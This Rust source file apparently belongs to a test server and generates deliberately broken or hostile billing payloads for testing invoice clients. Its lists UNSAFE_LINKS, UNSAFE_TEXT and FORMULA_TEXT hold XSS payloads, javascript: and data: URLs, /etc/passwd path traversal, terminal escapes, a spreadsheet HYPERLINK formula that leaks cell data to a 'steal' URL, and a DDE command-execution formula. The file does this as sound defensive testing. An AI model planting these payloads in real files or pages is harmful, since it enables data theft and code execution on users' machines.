//! Payloads that are wrong or hostile on purpose. Each is the demo data with a few fields
//! changed, so a client that copes shows everything else as usual.

use chrono::{DateTime, Utc};
use serde_json::{Value, json};

use crate::demo;
use crate::wire::{BillingDetails, WireInvoice};

/// The body of `malformed`: valid up to the second invoice, then a missing value
/// (line 1, column 78) and no closing brackets.
pub const MALFORMED_JSON: &str = r#"{"invoices":[{"id":"in_malformed_1","amountDue":1200,"status":"open"},{"id":"in_malformed_2","amountDue":,"#;

/// The value `big-int` puts in `invoices[0].total`: beyond `u64` and `i64`.
pub const BIG_INT: &str = "99999999999999999999";

fn to_bytes(value: &impl serde::Serialize) -> Vec<u8> {
    // Values built here from strings, integers and null always serialize.
    serde_json::to_vec(value).unwrap_or_default()
}

/// Demo data with `invoices[1].amountDue` as the JSON string `"1200"`.
pub(crate) fn wrong_type(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    let mut value =
        serde_json::to_value(demo::billing_details(org_id, now, link_base)).unwrap_or(Value::Null);
    if let Some(invoice) = value.pointer_mut("/invoices/1") {
        invoice["amountDue"] = json!("1200");
    }
    to_bytes(&value)
}

/// Demo data with `invoices[0].total` = [`BIG_INT`], spliced into the text because no JSON
/// number type here can hold it.
pub(crate) fn big_int(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    let text =
        String::from_utf8(demo::billing_details_json(org_id, now, link_base)).unwrap_or_default();
    let Some(key_at) = text.find("\"total\":") else {
        return text.into_bytes();
    };
    let digits_at = key_at + "\"total\":".len();
    let digits_len = text[digits_at..]
        .find(|c: char| !c.is_ascii_digit() && c != '-')
        .unwrap_or(0);
    format!(
        "{}{BIG_INT}{}",
        &text[..digits_at],
        &text[digits_at + digits_len..]
    )
    .into_bytes()
}

/// Demo data where the second invoice with links carries the ID of the first, keeping its own
/// number and links: a client must open the row the user picked, not the first with the ID.
pub(crate) fn duplicate_ids(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    let mut details = demo::billing_details(org_id, now, link_base);
    let mut linked = details
        .invoices
        .iter_mut()
        .filter(|invoice| invoice.hosted_invoice_url.is_some() && invoice.invoice_pdf.is_some());
    if let (Some(first), Some(second)) = (linked.next(), linked.next()) {
        second.id.clone_from(&first.id);
    }
    to_bytes(&details)
}

/// `{"invoices":[{},{},...]}` with `count` empty objects: the smallest body per invoice a
/// server can send (3 bytes), for the client's limits on what it decodes.
pub(crate) fn minimal(count: usize) -> Vec<u8> {
    let mut body = Vec::with_capacity(count.saturating_mul(3).saturating_add(16));
    body.extend_from_slice(b"{\"invoices\":[");
    for index in 0..count {
        if index > 0 {
            body.push(b',');
        }
        body.extend_from_slice(b"{}");
    }
    body.extend_from_slice(b"]}");
    body
}

/// Invoices and payment methods with most fields absent (not null: absent).
pub(crate) fn missing_fields() -> Vec<u8> {
    to_bytes(&json!({
        "invoices": [
            { "id": "in_missing_1" },
            { "id": "in_missing_2", "status": "open", "currency": "usd" },
            { "number": "MISSING-3", "total": 1000 },
            {}
        ],
        "paymentMethods": [
            { "id": "pm_missing_1" },
            { "type": "card", "last4": "4242" },
            {}
        ]
    }))
}

/// One invoice and one payment method with every documented field `null`.
pub(crate) fn null_fields() -> Vec<u8> {
    to_bytes(&json!({
        "invoices": [{
            "amountDue": null, "amountPaid": null, "amountRemaining": null, "createdAt": null,
            "currency": null, "dueAt": null, "hostedInvoiceUrl": null, "id": null,
            "invoicePdf": null, "number": null, "periodEnd": null, "periodStart": null,
            "status": null, "total": null
        }],
        "paymentMethods": [{
            "billingEmail": null, "billingName": null, "brand": null, "createdAt": null,
            "expMonth": null, "expYear": null, "id": null, "isDefault": null, "last4": null,
            "type": null
        }]
    }))
}

fn edit(
    org_id: &str,
    now: DateTime<Utc>,
    link_base: &str,
    change: impl FnOnce(&mut BillingDetails),
) -> Vec<u8> {
    let mut details = demo::billing_details(org_id, now, link_base);
    change(&mut details);
    to_bytes(&details)
}

/// Applies `values` to the first invoices, one value per invoice, through `set`.
fn per_invoice(
    invoices: &mut [WireInvoice],
    values: &[&str],
    set: impl Fn(&mut WireInvoice, String),
) {
    for (invoice, value) in invoices.iter_mut().zip(values) {
        set(invoice, (*value).to_owned());
    }
}

/// Demo data with a status, a currency and a payment method type the client has never seen.
pub(crate) fn unknown_values(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    edit(org_id, now, link_base, |details| {
        if let Some(invoice) = details.invoices.get_mut(0) {
            invoice.status = Some("in_review".to_owned());
        }
        if let Some(invoice) = details.invoices.get_mut(1) {
            invoice.currency = Some("xyz".to_owned());
        }
        if let Some(method) = details.payment_methods.get_mut(0) {
            method.kind = Some("crypto_wallet".to_owned());
            method.brand = Some("unionpay_plus".to_owned());
        }
    })
}

/// Links a client must never open or download, and markup or path tricks in text fields.
pub const UNSAFE_LINKS: &[&str] = &[
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "http://example.com/invoice.pdf",
    "  JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "https://example.com/hosted?next=javascript:alert(1)",
    "//example.com/protocol-relative.pdf",
    // Not a URL, and quoted in the error: terminal escapes that set the window title and
    // clear the screen.
    "\u{1b}]0;pwned\u{7}\u{1b}[2Jnot-a-link",
];

/// Invoice numbers (and the like) that are markup, paths or names reserved by an OS.
pub const UNSAFE_TEXT: &[&str] = &[
    "<script>alert('number')</script>",
    "<img src=x onerror=alert(1)>",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON",
    "a/b\\c:d*e?f\"g<h>i|j",
    "\u{202e}fdp.exe",
];

pub(crate) fn unsafe_links(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    edit(org_id, now, link_base, |details| {
        let invoices = &mut details.invoices;
        per_invoice(invoices, UNSAFE_LINKS, |invoice, link| {
            invoice.invoice_pdf = Some(link)
        });
        let mut hosted: Vec<&str> = UNSAFE_LINKS.to_vec();
        hosted.rotate_left(1);
        per_invoice(invoices, &hosted, |invoice, link| {
            invoice.hosted_invoice_url = Some(link)
        });
        per_invoice(invoices, UNSAFE_TEXT, |invoice, text| {
            invoice.number = Some(text)
        });
        if let Some(method) = details.payment_methods.get_mut(0) {
            method.billing_name = Some("<b>bold</b><script>alert('name')</script>".to_owned());
            method.billing_email = Some("\"><svg onload=alert(1)>@example.com".to_owned());
            method.brand = Some("<i>visa</i>".to_owned());
        }
    })
}

/// Text a spreadsheet would run as a formula.
pub const FORMULA_TEXT: &[&str] = &[
    "=HYPERLINK(\"http://example.com/steal?x=\"&A1,\"Click\")",
    "+1",
    "-2",
    "@x",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
];

pub(crate) fn formula_text(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    edit(org_id, now, link_base, |details| {
        per_invoice(&mut details.invoices, FORMULA_TEXT, |invoice, text| {
            invoice.number = Some(text)
        });
        if let Some(method) = details.payment_methods.get_mut(0) {
            method.billing_name = Some("=SUM(A1:A9)".to_owned());
            method.billing_email = Some("@evil.example".to_owned());
        }
    })
}

/// Non-ASCII text: accents, CJK, right-to-left, emoji, combining marks.
pub const UNICODE_TEXT: &[&str] = &[
    "Rechnung-Ü-0001",
    "請求書-0002",
    "فاتورة-0003",
    "😀-0004",
    "Cafe\u{301}-0005",
    "Счёт-0006",
];

pub(crate) fn unicode(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    edit(org_id, now, link_base, |details| {
        per_invoice(&mut details.invoices, UNICODE_TEXT, |invoice, text| {
            invoice.number = Some(text)
        });
        let names = ["Zoë Þórsdóttir", "山田太郎", "محمد الفارسي"];
        for (method, name) in details.payment_methods.iter_mut().zip(names) {
            method.billing_name = Some(name.to_owned());
        }
        if let Some(method) = details.payment_methods.get_mut(0) {
            method.billing_email = Some("rechnung@bücher.example".to_owned());
        }
    })
}

/// The `?fault=` values `bad-pdfs` puts on the PDF links of its first invoices that have one,
/// in this order (`big` and `big-chunked` are 64 MiB).
pub const BAD_PDF_FAULTS: &[&str] = &["not-pdf", "404", "500", "big", "big-chunked"];

/// Demo data whose first PDF links fail in each way of [`BAD_PDF_FAULTS`]; the rest are good.
pub(crate) fn bad_pdfs(org_id: &str, now: DateTime<Utc>, link_base: &str) -> Vec<u8> {
    edit(org_id, now, link_base, |details| {
        let with_pdf = details
            .invoices
            .iter_mut()
            .filter(|invoice| invoice.invoice_pdf.is_some());
        for (invoice, fault) in with_pdf.zip(BAD_PDF_FAULTS) {
            if let Some(link) = invoice.invoice_pdf.as_mut() {
                link.push_str("?fault=");
                link.push_str(fault);
            }
        }
    })
}

/// The invoice `evolving` adds from its second answer on.
pub const EVOLVING_NEW_ID: &str = "in_evolving_new";

/// Demo data that changes between answers, for "what changed since the last export": from
/// the second answer on (`fetch` counts them per orgId), the first open invoice is paid, the
/// second voided, the third due on 2030-01-31, the last invoice is gone, and a new one
/// ([`EVOLVING_NEW_ID`]) appears.
pub(crate) fn evolving(org_id: &str, now: DateTime<Utc>, link_base: &str, fetch: u32) -> Vec<u8> {
    let mut value =
        serde_json::to_value(demo::billing_details(org_id, now, link_base)).unwrap_or(Value::Null);
    if fetch == 0 {
        return to_bytes(&value);
    }
    if let Some(invoices) = value.get_mut("invoices").and_then(Value::as_array_mut) {
        let open: Vec<usize> = invoices
            .iter()
            .enumerate()
            .filter(|(_, invoice)| invoice["status"] == "open")
            .map(|(index, _)| index)
            .collect();
        if let Some(&paid) = open.first() {
            let invoice = &mut invoices[paid];
            invoice["status"] = json!("paid");
            invoice["amountPaid"] = invoice["amountDue"].clone();
            invoice["amountRemaining"] = json!(0);
        }
        if let Some(&voided) = open.get(1) {
            invoices[voided]["status"] = json!("void");
        }
        if let Some(&moved) = open.get(2) {
            invoices[moved]["dueAt"] = json!("2030-01-31T00:00:00Z");
        }
        let mut added = invoices.first().cloned().unwrap_or(Value::Null);
        invoices.pop();
        added["id"] = json!(EVOLVING_NEW_ID);
        added["number"] = json!("EVOLVE-NEW");
        added["status"] = json!("open");
        invoices.push(added);
    }
    to_bytes(&value)
}
